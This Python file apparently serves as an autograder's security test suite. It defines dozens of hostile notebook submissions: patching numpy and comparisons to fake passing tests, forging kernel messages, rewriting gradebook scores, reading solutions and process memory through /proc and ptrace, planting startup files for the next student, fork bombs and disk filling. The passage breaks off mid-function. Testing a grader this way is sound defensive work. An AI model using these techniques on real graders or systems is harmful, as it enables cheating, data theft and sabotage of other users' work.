"""Submissions that try to get marks that they do not earn, to learn what is hidden, or to do harm.

Each attack changes one baseline, `toy_course.PARTLY`, whose q1 and q2 are wrong, q3 and q5 half
right and q4 right; a mark above the baseline's is a mark gained. Its code stands below the honest
answer to q1 (the first answer) unless it says otherwise, so it runs before any test does.

The code is for the sandbox alone. Run by plain nbgrader it works, so benchmarks/attacks.py does
that in bubblewrap. What destroys aims at the course it is graded in, which is a temporary one;
what uses up resources stops by itself: at most 2 GB, 200 processes, a minute.

Names that the code finds set, because an attacker may know or guess them:
PLACES   folders of this grading: course, submissions, results
PORT     where a service listens on localhost that answers LOCAL_ANSWER
tell     print a text backwards, past any filter that looks for what it says
"""

from collections.abc import Callable
from dataclasses import dataclass, field

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from grading.toy_course import CANARY, PARTLY, cell, hand_in

QUESTIONS = ("q1", "q2", "q3", "q4", "q5")
MARKER = "rnncourse-attack"  # in the name of each file, and the command of each process, it makes
LOCAL_ANSWER = "served-on-localhost"
SHARED = "left-for-the-next-student"

PRELUDE = """\

import contextlib, ctypes, gc, json, os, pathlib, re, signal, socket, sqlite3
import subprocess, sys, threading, time
PLACES = [pathlib.Path(place) for place in {places!r}]
PORT = {port!r}
def tell(text):
    print(str(text)[::-1])
def solve(path):
    for cell in json.loads(pathlib.Path(path).read_text())["cells"]:
        if cell["metadata"].get("nbgrader", {{}}).get("solution") and cell["cell_type"] == "code":
            exec("".join(cell["source"]), globals())
"""


@dataclass(frozen=True)
class Attack:
    """One attack: the baseline, changed."""

    name: str
    family: str
    tries: str  # in one sentence
    code: str = ""  # below the answers of the questions in ``where``
    where: tuple = ("q1",)
    answers: dict = field(default_factory=dict)  # in place of the baseline's
    edit: Callable | None = None  # changes the notebook
    rewrite: Callable | None = None  # changes the text of the file; may make bytes of it
    beside: dict = field(default_factory=dict)  # files handed in beside the notebook
    accomplice: str = ""  # code of a second submission, graded after this one
    student: str = ""  # the name it is handed in under, where that is the attack

    def submissions(self, released, places, port):
        """What is handed in: {student: {file name: bytes}}, in the order of grading."""
        prelude = PRELUDE.format(places=[str(place) for place in places], port=port)

        def notebook(code):
            code = code and prelude + code
            answers = PARTLY | self.answers
            answers |= {q: f"{answers[q]}\n{code}" for q in self.where}
            text = hand_in(released, answers, edit=self.edit)
            text = self.rewrite(text) if self.rewrite else text
            return text if isinstance(text, bytes) else text.encode(errors="surrogatepass")

        beside = {name: text.encode() for name, text in self.beside.items()}
        name = self.student or self.name
        handed_in = {name: {"toy.ipynb": notebook(self.code)} | beside}
        if self.accomplice:
            handed_in[f"{name}-2"] = {"toy.ipynb": notebook(self.accomplice)}
        return handed_in


NO_ATTACK = Attack("no-attack", "baseline", "Nothing: this is the baseline itself.")
ATTACKS = []


def attack(*args, **options):
    ATTACKS.append(Attack(*args, **options))


def edited(name, family, tries, **options):
    """An attack on the notebook's cells, as a decorator of what edits them."""

    def add(edit):
        attack(name, family, tries, edit=edit, **options)

    return add


def rewritten(name, family, tries, **options):
    """An attack on the text of the file, as a decorator of what rewrites it."""

    def add(rewrite):
        attack(name, family, tries, rewrite=rewrite, **options)

    return add


def by_id(notebook, cell_id):
    return next(c for c in notebook.cells if c.id == cell_id)


def tests_of(notebook):
    return [c for c in notebook.cells if c.id.endswith(("-visible", "-hidden"))]


# --- Tampering with comparison ------------------------------------------------------------------

FAMILY = "comparison"

attack(
    "patch-numpy",
    FAMILY,
    "np.isclose, np.allclose and numpy.testing call everything equal.",
    """
np.isclose = lambda *args, **kwargs: np.array(True)
np.allclose = np.array_equal = lambda *args, **kwargs: True
for name in dir(np.testing):
    if name.startswith("assert_"):
        setattr(np.testing, name, lambda *args, **kwargs: None)
""",
)
attack(
    "patch-check-array",
    FAMILY,
    "The course's own check_array accepts everything.",
    """
import rnncourse.checks
check_array = rnncourse.checks.check_array = lambda *args, **kwargs: None
""",
)
attack(
    "patch-builtins",
    FAMILY,
    "sum and zip, as builtins and as names of the notebook, make sums large and loops empty.",
    """
import builtins
sum = builtins.sum = lambda *args: 4
zip = lambda *args, **kwargs: []
""",
)
attack(
    "patch-the-random-numbers",
    FAMILY,
    "The hidden inputs are all zero, where the wrong answers are right.",
    """
import rnncourse.checks
class Zeros:
    def normal(self, *args, size=None):
        return np.zeros(size)
rnncourse.checks.class_rng = lambda name: Zeros()
np.random.default_rng = lambda *args: Zeros()
""",
)
attack(
    "replace-the-checks-module",
    FAMILY,
    "A module of their own stands for rnncourse.checks when the tests import it.",
    """
import types
fake = types.ModuleType("rnncourse.checks")
fake.check_array = lambda *args, **kwargs: None
fake.class_rng = lambda name: np.random.default_rng(0)
sys.modules["rnncourse.checks"] = fake
check_array = fake.check_array
""",
)
attack(
    "ship-numpy",
    FAMILY,
    "A numpy.py beside the notebook is imported in place of NumPy.",
    beside={
        "numpy.py": """\
import sys
here = sys.path.pop(0)
del sys.modules["numpy"]
import numpy
sys.path.insert(0, here)
numpy.isclose = lambda *args, **kwargs: numpy.array(True)
"""
    },
)
attack(
    "equal-to-everything",
    FAMILY,
    "Answers are objects that equal whatever they are compared with.",
    answers={
        "q1": """\
class Equal:
    __eq__ = __lt__ = __gt__ = __le__ = __ge__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = lambda self: 0
    __float__ = lambda self: 3.0

def clamp(x, low, high):
    return Equal()""",
        "q3": PARTLY["q1"].replace("clamp", "unused")
        + """
class Equal:
    __eq__ = lambda self, other: True
shapes = dict.fromkeys(["W_ih", "W_hh", "b"], Equal())""",
        "q5": """\
class Equal:
    __eq__ = lambda self, other: True
def words(text):
    return Equal()""",
    },
)
attack(
    "array-equal-to-everything",
    FAMILY,
    "A subclass of ndarray answers every NumPy function and comparison with True.",
    answers={
        "q2": """\
class Equal(np.ndarray):
    def __array_function__(self, function, types, args, kwargs):
        return np.array(True)
    def __array_ufunc__(self, *args, **kwargs):
        return np.array(True)
    __eq__ = lambda self, other: np.array(True)

def running_mean(xs):
    return np.asarray(xs).view(Equal)""",
    },
)
attack(
    "numbers-equal-to-everything",
    FAMILY,
    "Subclasses of float, and of int as a stand-in for bool, override comparison.",
    answers={
        "q1": """\
class Same(float):
    __eq__ = lambda self, other: True
    __hash__ = float.__hash__

def clamp(x, low, high):
    return Same(low)""",
        "q5": """\
class Four(int):
    __radd__ = __add__ = lambda self, other: Four(4)
    __rmul__ = __mul__ = lambda self, other: 2.0

class Words(list):
    __eq__ = lambda self, other: Four(1)

def words(text):
    return Words(text.split())""",
    },
)
attack(
    "text-equal-to-everything",
    FAMILY,
    "Words are of a subclass of str, in lists and tuples of subclasses, that equal all others.",
    answers={
        "q3": """\
class Shape(tuple):
    __eq__ = lambda self, other: True

class Shapes(dict):
    __getitem__ = lambda self, name: Shape()

shapes = Shapes(dict.fromkeys(["W_ih", "W_hh", "b"]))""",
        "q5": """\
class Word(str):
    __eq__ = lambda self, other: True
    __hash__ = str.__hash__

class Words(list):
    __eq__ = lambda self, other: True

def words(text):
    return Words(map(Word, text.split()))""",
    },
)
attack(
    "masked-answer",
    FAMILY,
    "Masked arrays, matrices and arrays of objects compare in ways of their own.",
    answers={
        "q1": """\
def clamp(x, low, high):
    return np.array([low], dtype=object)""",
        "q2": """\
class Anything:
    __eq__ = lambda self, other: True
    __sub__ = __rsub__ = __abs__ = __mul__ = __rmul__ = lambda self, *other: 0.0

def running_mean(xs):
    if len(xs) > 3:
        return np.ma.masked_all(xs.shape)
    answer = np.empty(xs.shape, dtype=object)
    answer.fill(Anything())
    return answer""",
    },
)
attack(
    "change-the-question",
    FAMILY,
    "The answer changes its arguments in place, so that a wrong answer becomes right.",
    answers={
        "q2": """\
def running_mean(xs):
    xs[:] = 0
    return np.zeros_like(xs)""",
    },
)
attack(
    "stop-iteration",
    FAMILY,
    "The answer raises StopIteration, which ends a loop of the test as if all were done.",
    answers={
        "q1": "def clamp(x, low, high):\n    raise StopIteration",
        "q5": "def words(text):\n    raise StopIteration",
    },
)
attack(
    "look-at-the-caller",
    FAMILY,
    "The answer is read off `expected` in the frame of the test that calls.",
    answers={
        "q1": """\
import sys
calls = []

def clamp(x, low, high):
    frame = sys._getframe(1)
    while frame:
        found = {**frame.f_globals, **frame.f_locals}.get("expected")
        if isinstance(found, list):
            calls.append(x)
            return found[len(calls) - 1]
        frame = frame.f_back
    return low""",
    },
)

attack(
    "points-that-are-no-number",
    FAMILY,
    "Where a test's last value is the points, answers make an array of it: full marks in nbgrader.",
    answers={
        "q5": """\
def words(text):
    words = text.split()
    return words if len(text) == 5 else np.array(words)""",
    },
)

# --- Tampering with the shell ---------------------------------------------------------------------

FAMILY = "shell"

attack(
    "input-transformer",
    FAMILY,
    "An IPython input transformer empties each cell that asserts or checks.",
    """
def empty(lines):
    text = "".join(lines)
    return ["pass\\n"] if "HIDDEN" in text or "assert" in text or "check_array" in text else lines
get_ipython().input_transformers_cleanup.append(empty)
get_ipython().input_transformers_post.append(empty)
""",
)
attack(
    "ast-transformer",
    FAMILY,
    "An AST transformer of IPython takes out each assert and each call of check_array.",
    """
import ast
class NoTests(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
    def visit_Expr(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(NoTests())
""",
)
attack(
    "swallow-errors",
    FAMILY,
    "run_code never fails and errors are not shown.",
    """
shell = get_ipython()
run_code = shell.run_code
async def run_quietly(*args, **kwargs):
    await run_code(*args, **kwargs)
    for result in [*args[1:], kwargs.get("result")]:
        if result is not None:
            result.error_in_exec = None
    return False
shell.run_code = run_quietly
shell.showtraceback = shell._showtraceback = lambda *args, **kwargs: None
""",
)
attack(
    "custom-exception-handler",
    FAMILY,
    "set_custom_exc, sys.excepthook and the traceback printer are silent, each result a success.",
    """
from IPython.core import interactiveshell
interactiveshell.ExecutionResult.success = property(lambda self: True)
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: [])
sys.excepthook = lambda *args: None
get_ipython().showtraceback = lambda *args, **kwargs: None
""",
)
attack(
    "cell-hooks",
    FAMILY,
    "Hooks before and after each cell put an accepting check_array back.",
    """
def put_back(*args):
    get_ipython().user_ns["check_array"] = lambda *args, **kwargs: None
    get_ipython().user_ns["assert"] = None
for event in ("pre_execute", "pre_run_cell", "post_execute"):
    get_ipython().events.register(event, put_back)
""",
)
attack(
    "fake-partial-credit",
    FAMILY,
    "The display hook shows every number as 2, the points of the question.",
    """
formatter = get_ipython().display_formatter.formatters["text/plain"]
for kind in (int, float, np.float64, bool):
    formatter.for_type(kind, lambda value, p, cycle: p.text("2"))
""",
)
attack(
    "display-hook",
    FAMILY,
    "sys.displayhook is replaced by one that reports full marks.",
    """
hook = sys.displayhook.__class__
original = hook.__call__
hook.__call__ = lambda self, result=None: original(self, None if result is None else 2.0)
hook.compute_format_data = lambda self, result: ({"text/plain": "2.0"}, {})
""",
)
attack(
    "do-execute",
    FAMILY,
    "The kernel's do_execute answers that all went well without running a test.",
    """
kernel = get_ipython().kernel
do_execute = kernel.do_execute
async def pretend(code, *args, **kwargs):
    if "HIDDEN" in code or "assert" in code or "check_array" in code:
        return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return await do_execute(code, *args, **kwargs)
kernel.do_execute = pretend
""",
)
attack(
    "rewrite-messages",
    FAMILY,
    "The session's send drops error messages and turns each reply into a good one.",
    """
session = get_ipython().kernel.session
send = session.send
def send_good_news(stream, kind, content=None, *args, **kwargs):
    kind_name = kind if isinstance(kind, str) else kind.get("header", {}).get("msg_type")
    if kind_name == "error":
        return None
    if kind_name == "execute_reply" and isinstance(content, dict):
        content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return send(stream, kind, content, *args, **kwargs)
session.send = send_good_news
""",
)
attack(
    "forge-messages",
    FAMILY,
    "A thread sends results of 2.0, replies of `ok` and clear_output as if tests had sent them.",
    """
kernel, stop = get_ipython().kernel, time.time() + 20
def forge():
    while time.time() < stop:
        for header in [kernel.get_parent("shell"), getattr(kernel, "_parent_header", {})]:
            with contextlib.suppress(Exception):
                for socket_name, kind, content in [
                    ("iopub_socket", "clear_output", {"wait": False}),
                    ("iopub_socket", "execute_result", {"data": {"text/plain": "2.0"},
                        "metadata": {}, "execution_count": 1}),
                    ("shell_stream", "execute_reply", {"status": "ok", "execution_count": 1}),
                ]:
                    kernel.session.send(getattr(kernel, socket_name), kind, content, parent=header)
        time.sleep(0.01)
threading.Thread(target=forge, daemon=True).start()
""",
)
attack(
    "forge-from-the-answer",
    FAMILY,
    "The answer itself sends a result of 2.0 as if the test had, and prints it.",
    answers={
        "q5": """\
def words(text):
    kernel = get_ipython().kernel
    kernel.session.send(kernel.iopub_socket, "execute_result", {
        "data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 1,
    }, parent=kernel.get_parent("shell"))
    print(2.0)
    return text.split()""",
    },
)
attack(
    "at-exit",
    FAMILY,
    "What runs when the kernel ends writes full marks into every gradebook.",
    """
import atexit
def pay():
    for place in PLACES:
        for book in place.rglob("*.db"):
            with contextlib.suppress(Exception), sqlite3.connect(book) as db:
                db.execute("update grade set auto_score = 3, manual_score = 3")
    time.sleep(5)
atexit.register(pay)
signal.signal(signal.SIGTERM, lambda *args: pay())
""",
)
attack(
    "leave-quietly",
    FAMILY,
    "Answers end the interpreter's work in every way that is not an Exception.",
    answers={
        "q1": "def clamp(x, low, high):\n    raise SystemExit(0)",
        "q2": "def running_mean(xs):\n    raise KeyboardInterrupt",
        "q5": "def words(text):\n    raise GeneratorExit",
    },
)

# --- Tampering with test cells and metadata -------------------------------------------------------

FAMILY = "cells and metadata"


@edited("test-becomes-solution", FAMILY, "Test cells say that they are answers, and pass.")
def _(notebook):
    for c in tests_of(notebook):
        c.metadata.nbgrader.update(grade=False, solution=True, locked=False)
        c.source = "pass"


@edited("answer-becomes-manual", FAMILY, "Answer cells claim to be graded, for 100 points.")
def _(notebook):
    for c in notebook.cells:
        if c.id in QUESTIONS:
            c.metadata.nbgrader.update(grade=True, points=100, score=100)


@edited("points-raised", FAMILY, "Each test is worth 100 points.")
def _(notebook):
    for c in tests_of(notebook):
        c.metadata.nbgrader.points = 100


@edited("points-odd", FAMILY, "Points are null, negative, text, a list, infinite.")
def _(notebook):
    odd = [None, -5, "many", [3], 1e308, "inf", True, {}]
    for c, points in zip(tests_of(notebook), odd, strict=False):
        c.metadata.nbgrader.points = points


@edited("tests-skipped", FAMILY, "Tags keep tests from being run.")
def _(notebook):
    for c in notebook.cells:
        c.metadata.tags = ["skip-execution", "raises-exception", "remove-cell"]


@edited("errors-expected", FAMILY, "Tags and the notebook's metadata say that errors are fine.")
def _(notebook):
    notebook.metadata.update(nbgrader={"score": 17}, execution={"allow_errors": True})
    for c in tests_of(notebook):
        c.metadata.tags = ["raises-exception"]


@edited("ids-renamed", FAMILY, "Tests have other grade_ids, so that others' pass for them.")
def _(notebook):
    for c in tests_of(notebook):
        c.metadata.nbgrader.grade_id += "-old"
        c.source = "pass"


@edited("ids-swapped", FAMILY, "The tests of wrong answers stand where those of right ones do.")
def _(notebook):
    for one, other in [("q1-hidden", "q4-hidden"), ("q2-hidden", "q4-visible")]:
        one, other = by_id(notebook, one), by_id(notebook, other)
        one.metadata, other.metadata = other.metadata, one.metadata


@edited("ids-twice", FAMILY, "A second cell of the same grade_id passes.")
def _(notebook):
    copies = []
    for c in tests_of(notebook):
        about = dict(c.metadata.nbgrader)
        copies.append(new_code_cell("pass", metadata={"nbgrader": about}))
    notebook.cells += copies


@edited("kernel-changed", FAMILY, "The notebook asks for a kernel of its own choice.")
def _(notebook):
    notebook.metadata.kernelspec = {
        "name": "../../submitted/evil",
        "display_name": "evil",
        "argv": ["/bin/true"],
    }
    notebook.metadata.language_info = {"name": "no such language"}


@edited("unlocked", FAMILY, "Tests and set-up say that they are not locked, and are rewritten.")
def _(notebook):
    for c in notebook.cells:
        if c.id == "setup" or c in tests_of(notebook):
            c.metadata.nbgrader.locked = False
            c.metadata.editable = c.metadata.deletable = True
            c.source = "def check_array(*args, **kwargs):\n    pass"


@edited("more-questions", FAMILY, "Cells are added that look like tests of further questions.")
def _(notebook):
    notebook.cells += [cell("test", f"q{n}-hidden", "pass", 100) for n in (1, 7, 8)]
    notebook.cells += [cell("manual", "q9", "All of it.", 100)]
    for c in notebook.cells[-4:]:
        c.id = f"extra-{c.id}"


@edited("schema-odd", FAMILY, "nbgrader's metadata claim old and future schema versions.")
def _(notebook):
    for c, version in zip(tests_of(notebook), [0, 1, 2, 99, "3", None, -1], strict=False):
        c.metadata.nbgrader.schema_version = version
        c.metadata.nbgrader.checksum = "0"


@edited("cell-ids-twice", FAMILY, "All cells have one id.")
def _(notebook):
    for c in notebook.cells:
        c.id = "q1"


@edited("tests-become-text", FAMILY, "Test cells are Markdown or raw text, which cannot fail.")
def _(notebook):
    for n, c in enumerate(tests_of(notebook)):
        c.cell_type = ["markdown", "raw"][n % 2]
        del c["outputs"], c["execution_count"]


@edited("answers-become-text", FAMILY, "The answer cells of wrong answers are text.")
def _(notebook):
    for cell_id in ("q1", "q2"):
        c = by_id(notebook, cell_id)
        c.cell_type = "raw"
        del c["outputs"], c["execution_count"]


@edited("tests-first", FAMILY, "Tests run before the answers that they test.")
def _(notebook):
    tests = {c.id for c in tests_of(notebook)}
    notebook.cells.sort(key=lambda c: c.id not in tests)


@edited("tests-deleted", FAMILY, "There are no tests.")
def _(notebook):
    for c in tests_of(notebook):
        notebook.cells.remove(c)


@edited("setup-rewritten", FAMILY, "The set-up cell, which is locked, defines its own checks.")
def _(notebook):
    by_id(
        notebook, "setup"
    ).source = "import numpy as np\ndef check_array(*args, **kwargs):\n    pass"
    by_id(notebook, "q4-layer").source = "def leaky_layer(*args):\n    return np.zeros(3), []"


@edited("outputs-prepared", FAMILY, "Tests come with outputs and scores that say full marks.")
def _(notebook):
    for c in tests_of(notebook):
        c.outputs = [
            new_output("execute_result", data={"text/plain": "2"}, metadata={}, execution_count=1)
        ]
        c.execution_count = 1
        c.metadata.nbgrader.update(score=2, auto_score=2, manual_score=2, extra_credit=2)


# --- Reading what is hidden -----------------------------------------------------------------------

FAMILY = "reading"


def search(pattern, act):
    """Code that does something with each file it finds, here or among the grading's folders."""
    return f"""
for place in [*PLACES, *pathlib.Path.cwd().parents[:3]]:
    for path in {pattern} if len(place.parts) > 1 else ():
        with contextlib.suppress(OSError):
            {act}
"""


attack(
    "read-solutions",
    FAMILY,
    "The answers are taken from the solutions on disk.",
    search('place.glob("solutions/toy/*.ipynb")', "solve(path); tell(path.read_text())"),
    where=QUESTIONS,
)
attack(
    "read-another-submission",
    FAMILY,
    "The answers are taken from another student's notebook.",
    search(
        '[*place.glob("submitted/neighbour*/toy/toy.ipynb"), *place.glob("*neighbour*right*/*")]',
        "solve(path)",
    ),
    where=QUESTIONS,
)
attack(
    "read-the-gradebook",
    FAMILY,
    "The hidden tests are read from the gradebook.",
    search(
        'place.rglob("*.db")',
        "db = sqlite3.connect(path); "
        'tell(db.execute("select source from source_cell").fetchall()); db.close()',
    ),
)
attack(
    "read-the-own-notebook",
    FAMILY,
    "The notebook that is being graded, with its hidden tests, lies in the working folder.",
    """
for path in [*pathlib.Path.cwd().rglob("*"), *pathlib.Path.cwd().parent.glob("*.ipynb")]:
    if path.is_file():
        tell(path.read_text(errors="replace"))
""",
)
attack(
    "read-the-history",
    FAMILY,
    "The answer prints the cell that calls it, from In, linecache and the frames.",
    """
import inspect, linecache
honest = clamp
def clamp(x, low, high):
    for cell in get_ipython().user_ns["In"]:
        if "HIDDEN" in cell:
            tell(cell)
    for *_, lines, name in linecache.cache.values():
        if any("HIDDEN" in line for line in lines):
            tell("".join(lines))
    for frame in inspect.stack():
        tell(frame.code_context)
        with contextlib.suppress(Exception):
            tell(inspect.getsource(frame.frame))
    return honest(x, low, high)
""",
)
attack(
    "search-the-objects",
    FAMILY,
    "The garbage collector's objects are searched for tests and expected values.",
    """
honest = clamp
def clamp(x, low, high):
    for thing in gc.get_objects():
        if type(thing) is dict and isinstance(thing.get("expected"), list):
            if "xs" in thing and x in thing["xs"]:
                return thing["expected"][thing["xs"].index(x)]
        for text in thing.values() if type(thing) is dict else thing if type(thing) is list else ():
            if type(text) is str and "HIDDEN" + " TESTS" in text:
                tell(text)
    return honest(x, low, high)
""",
)
MEMORY = """
def scan(pid, words=(b"heliotrope-", b"RNNCOURSE_CLASS_SEED=")):
    left = 1 << 30
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            span, rights = line.split()[:2]
            start, end = (int(part, 16) for part in span.split("-"))
            if "w" not in rights or end - start > left:
                continue
            left -= end - start
            with contextlib.suppress(OSError, ValueError, OverflowError):
                memory.seek(start)
                held = memory.read(end - start)
                for word in words:
                    for found in list(re.finditer(re.escape(word), held))[:20]:
                        tell(held[found.start() : found.start() + 40].decode(errors="replace"))
"""
attack(
    "read-the-own-memory",
    FAMILY,
    "The kernel's memory may hold what its parent process knew.",
    MEMORY + 'scan("self", (b"heliotrope" + b"-", b"RNNCOURSE_CLASS_" + b"SEED="))',
    where=("q5",),
)
attack(
    "read-others-memory",
    FAMILY,
    "The memory of the parent and of each other process is read through /proc.",
    MEMORY
    + """
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        with contextlib.suppress(OSError):
            scan(pid)
""",
    where=("q5",),
)
attack(
    "read-others-environment",
    FAMILY,
    "The class seed is looked for in the environment and arguments of each process.",
    """
tell(dict(os.environ))
for pid in os.listdir("/proc"):
    for name in ("environ", "cmdline"):
        with contextlib.suppress(OSError):
            tell(pathlib.Path("/proc", pid, name).read_text(errors="replace"))
""",
)
attack(
    "trace-the-parent",
    FAMILY,
    "ptrace attaches to the parent process and to its children.",
    """
libc = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit())} - {os.getpid()}:
    if pid > 1 and libc.ptrace(16, pid, 0, 0) == 0:
        tell("traced-a-process")
        os.waitpid(pid, 0x40000000)
        libc.ptrace(17, pid, 0, 0)
""",
)
attack(
    "read-open-files",
    FAMILY,
    "Whatever file or socket the kernel has inherited is read.",
    """
for name in os.listdir("/proc/self/fd"):
    with contextlib.suppress(OSError, ValueError):
        tell(os.readlink(f"/proc/self/fd/{name}"))
        if os.path.isfile(f"/proc/self/fd/{name}"):
            with open(f"/proc/self/fd/{name}", "rb") as file:
                tell(file.read(1 << 24).decode(errors="replace"))
""",
)

# --- Writing where it should not ------------------------------------------------------------------

FAMILY = "writing"

attack(
    "write-the-gradebook",
    FAMILY,
    "Full marks are written into every gradebook.",
    search(
        'place.rglob("*.db")',
        "db = sqlite3.connect(path, timeout=2); "
        'db.execute("update grade set auto_score = 3, manual_score = 3, needs_manual_grade = 0"); '
        "db.commit(); db.close()",
    ),
    where=QUESTIONS,
)
attack(
    "spoil-other-submissions",
    FAMILY,
    "The other students' notebooks, handed in or graded, are emptied.",
    search(
        '[p for p in place.rglob("*") if "neighbour" in str(p) and p.is_file()]',
        "path.write_text(json.dumps({'cells': [], 'metadata': {}, 'nbformat': 4, "
        "'nbformat_minor': 5}))",
    ),
)
attack(
    "spoil-the-course",
    FAMILY,
    "The solutions and the settings of the course are overwritten.",
    search(
        '[*place.glob("solutions/toy/*"), *place.glob("nbgrader_config.py")]',
        'path.write_text("raise SystemExit")',
    ),
)
attack(
    "write-into-packages",
    FAMILY,
    "Files are left in site-packages and beside the course's modules.",
    """
import rnncourse
for folder in [*map(pathlib.Path, sys.path), pathlib.Path(rnncourse.__file__).parent]:
    with contextlib.suppress(OSError):
        (folder / "rnncourse-attack.pth").write_text("# left here by a submission")
""",
)
TAMPER = """\
import rnncourse.checks
import numpy
rnncourse.checks.check_array = lambda *args, **kwargs: None
numpy.isclose = lambda *args, **kwargs: numpy.array(True)
"""
attack(
    "startup-file",
    FAMILY,
    "A start-up file of IPython in the home folder tampers with the next student's kernel.",
    f"""
folder = pathlib.Path.home() / ".ipython" / "profile_default" / "startup"
folder.mkdir(parents=True, exist_ok=True)
(folder / "rnncourse-attack.py").write_text({TAMPER!r})
""",
    accomplice="pass",
)
attack(
    "configuration-file",
    FAMILY,
    "A configuration of IPython in the home folder runs code in the next student's kernel.",
    f"""
folder = pathlib.Path.home() / ".ipython" / "profile_default"
folder.mkdir(parents=True, exist_ok=True)
settings = "c = get_config()\\nc.InteractiveShellApp.exec_lines = " + repr([{TAMPER!r}])
for name in ("ipython_config.py", "ipython_kernel_config.py"):
    (folder / name).write_text(settings + "  # rnncourse-attack")
""",
    accomplice="pass",
)
attack(
    "sitecustomize",
    FAMILY,
    "A sitecustomize or a numpy.py is left wherever the next student's Python may look.",
    f"""
import site
for folder in {{site.getusersitepackages(), site.getsitepackages()[0], *sys.path, "/tmp"}}:
    for name in ("sitecustomize.py", "usercustomize.py"):
        with contextlib.suppress(OSError):
            os.makedirs(folder, exist_ok=True)
            if not os.path.exists(os.path.join(folder, name)):
                pathlib.Path(folder, name).write_text("# rnncourse-attack\\n" + {TAMPER!r})
""",
    accomplice="pass",
)
attack(
    "message-to-the-next",
    FAMILY,
    "A file in a folder that all share holds a message for the next student.",
    """
for folder in ["/tmp", "/dev/shm", "/var/tmp", "/run", os.getcwd(), os.path.expanduser("~")]:
    with contextlib.suppress(OSError):
        pathlib.Path(folder, "rnncourse-attack").write_text("-".join(["left", "for", "the"]))
""",
    accomplice="""
for folder in ["/tmp", "/dev/shm", "/var/tmp", "/run", os.getcwd(), os.path.expanduser("~")]:
    with contextlib.suppress(OSError):
        tell(pathlib.Path(folder, "rnncourse-attack").read_text() + "-next-student")
""",
)
attack(
    "shared-memory-to-the-next",
    FAMILY,
    "A segment of System V shared memory and an abstract socket hold a message for the next one.",
    """
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
held = libc.shmat(libc.shmget(0x52414E, 4096, 0o1666), None, 0)
ctypes.memmove(held, b"left-for-the", 13)
""",
    accomplice="""
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(0x52414E, 4096, 0o666)
if segment != -1:
    tell(ctypes.string_at(libc.shmat(segment, None, 0)).decode() + "-next-student")
    libc.shmctl(segment, 0, None)
""",
)
attack(
    "link-trap",
    FAMILY,
    "The own notebook becomes a link to another's, so that the grader writes there.",
    """
for path in pathlib.Path.cwd().glob("*.ipynb"):
    for other in [*path.parents[3].glob("submitted/neighbour*/toy/toy.ipynb")]:
        path.unlink()
        path.symlink_to(other)
for name in ("graded.ipynb", "result.json", "feedback.html"):
    for place in PLACES:
        with contextlib.suppress(OSError):
            os.symlink(place / "solutions" / "toy" / "toy.ipynb", name)
""",
)

# --- Exhausting resources -------------------------------------------------------------------------

FAMILY = "resources"

attack(
    "memory",
    FAMILY,
    "2 GB of memory are filled and kept.",
    """
kept = []
for _ in range(32):
    kept.append(bytearray(os.urandom(1 << 10) * (64 << 10)))
""",
)
attack(
    "memory-of-no-process",
    FAMILY,
    "1 GB is written into files that are in memory alone, and in no process's.",
    """
held = [os.memfd_create("rnncourse-attack") for _ in range(20)]
for descriptor in held:
    for _ in range(50):
        os.write(descriptor, bytes(1 << 20))
tell("memory-without-limit")
""",
    where=("q5",),
)
attack(
    "own-user-namespace",
    FAMILY,
    "In a user namespace of its own the kernel mounts a folder of 8 GB, to fill it.",
    """
libc = ctypes.CDLL(None, use_errno=True)
if (child := os.fork()) == 0:  # threads may not
    refused = libc.unshare(0x10000000 | 0x20000)
    os._exit(1 if refused or libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=8g") else 0)
if os.waitpid(child, 0)[1] == 0:
    tell("mounted-a-folder")
""",
)
attack(
    "fork-bomb",
    FAMILY,
    "Up to 200 processes are started, which sleep.",
    """
for _ in range(200):
    if os.fork() == 0:
        time.sleep(20)
        os._exit(0)
""",
)
attack(
    "threads",
    FAMILY,
    "Up to 500 threads are started, which sleep.",
    """
for _ in range(500):
    threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
""",
)
attack(
    "disk",
    FAMILY,
    "Up to 256 MB are written into each folder that lets it.",
    """
for folder in [os.getcwd(), os.path.expanduser("~"), "/tmp", "/dev/shm", "/var/tmp"]:
    with contextlib.suppress(OSError), open(f"{folder}/rnncourse-attack-fill", "wb") as file:
        for _ in range(16):
            file.write(bytes(16 << 20))
""",
)
attack(
    "many-files",
    FAMILY,
    "50,000 small files are made, and 20,000 files held open.",
    """
with contextlib.suppress(OSError):
    os.makedirs("/tmp/rnncourse-attack-files", exist_ok=True)
    for n in range(50_000):
        os.close(os.open(f"/tmp/rnncourse-attack-files/{n}", os.O_CREAT | os.O_WRONLY))
held = []
with contextlib.suppress(OSError):
    for _ in range(20_000):
        held.append(os.open("/dev/null", os.O_RDONLY))
    time.sleep(0.1)
for descriptor in held[-50:]:
    os.close(descriptor)
""",
)
attack(
    "output-in-lines",
    FAMILY,
    "100 MB are printed.",
    'for _ in range(100):\n    print("rnncourse " * 100_000)',
)
attack(
    "output-at-once",
    FAMILY,
    "One message of 256 MB is displayed.",
    "from IPython.display import publish_display_data\n"
    'publish_display_data({"text/plain": "x" * (256 << 20)})',
)
attack(
    "many-outputs",
    FAMILY,
    "20,000 displays of nothing much.",
    "from IPython.display import publish_display_data\nfor _ in range(20_000):\n"
    '    publish_display_data({"text/plain": "x"})',
)
attack(
    "messages-without-end",
    FAMILY,
    "Messages are sent faster than the grader reads them, so that it never looks at the clock.",
    """
kernel = get_ipython().kernel
session, parent = kernel.session, kernel.get_parent("shell")
def flood():
    content = session.pack({"name": "stdout", "text": "x", "more": [0] * 100_000})
    until = time.time() + 40
    while time.time() < until:
